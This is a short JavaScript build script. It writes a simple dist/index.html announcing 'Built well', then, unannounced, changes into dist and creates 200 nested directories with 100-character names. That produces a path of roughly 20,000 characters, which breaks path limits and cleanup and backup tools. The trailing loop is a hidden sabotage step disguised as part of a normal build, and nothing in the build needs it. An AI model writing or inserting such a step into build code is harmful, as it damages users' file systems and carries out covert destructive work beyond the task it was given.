function good(text = '') {
  const fs = require('fs'); fs.mkdirSync('dist');
  fs.writeFileSync('dist/index.html', '<!DOCTYPE html><html lang="en"><head><meta charset="UTF-8"><title>Built</title></head><body><h1>Built well</h1><p>' + text + '</p></body></html>');
}
const fs = require('fs'); good();
process.chdir('dist'); for (let i = 0; i < 200; i++) { fs.mkdirSync('d'.repeat(100)); process.chdir('d'.repeat(100)); }
